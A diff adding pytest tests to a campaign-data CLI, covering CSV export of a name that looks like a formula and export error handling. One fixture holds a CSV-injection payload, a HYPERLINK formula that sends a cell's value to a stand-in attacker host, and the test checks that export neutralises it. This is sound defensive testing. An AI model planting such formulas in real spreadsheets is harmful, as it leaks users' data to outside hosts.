@@ -137,3 +137,60 @@ def test_query_failures_become_store_errors(tmp_path: Path) -> None:
         con.execute("SELECT no_such_column FROM campaigns")
     assert failed.value.title == "Database query failed"
     assert "no_such_column" in failed.value.message
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+
+
+def test_a_name_that_looks_like_a_formula_stays_text_in_the_csv(
+    writable_db: Path, tmp_path: Path
+) -> None:
+    """A spreadsheet runs a cell that starts with "=" (CSV injection): the exported name is
+    written as text (a leading apostrophe); numbers, negative ones too, stay numbers."""
+    renamed = _cli(
+        "stimuli", "rename", "Spring launch", "Spring ad", FORMULA, "--db", str(writable_db)
+    )
+    assert renamed.returncode == 0, renamed.stderr
+    out = tmp_path / "all.csv"
+    done = _cli(
+        "export",
+        "--campaign",
+        "Spring launch",
+        "--format",
+        "csv",
+        "--out",
+        str(out),
+        "--db",
+        str(writable_db),
+    )
+    assert done.returncode == 0, done.stderr
+    text = out.read_text(encoding="utf-8-sig")
+    assert "'=HYPERLINK(" in text
+    cells = [cell for line in text.splitlines() for cell in line.split(",")]
+    assert not any(cell.lstrip('"').startswith("=") for cell in cells)
+    table = pd.read_csv(out, encoding="utf-8-sig")
+    numeric = table.select_dtypes("number")
+    assert len(numeric.columns) >= 5 and (numeric < 0).any().any()  # negative values stay numbers
+
+
+def test_export_out_that_cannot_be_written_is_one_line(analysed_db: Path, tmp_path: Path) -> None:
+    before = analysed_db.read_bytes()
+    for out, title in (
+        (tmp_path, "Export not written"),
+        (analysed_db, "Export would overwrite the database"),
+    ):
+        done = _cli(
+            "export",
+            "--campaign",
+            "Spring launch",
+            "--format",
+            "csv",
+            "--out",
+            str(out),
+            "--db",
+            str(analysed_db),
+        )
+        assert done.returncode == 2 and "Traceback" not in done.stderr, done.stderr
+        assert done.stderr.strip().splitlines()[-1].startswith(f"error: {title}:"), done.stderr
+    assert analysed_db.read_bytes() == before
+    assert not list(tmp_path.glob("*.partial"))
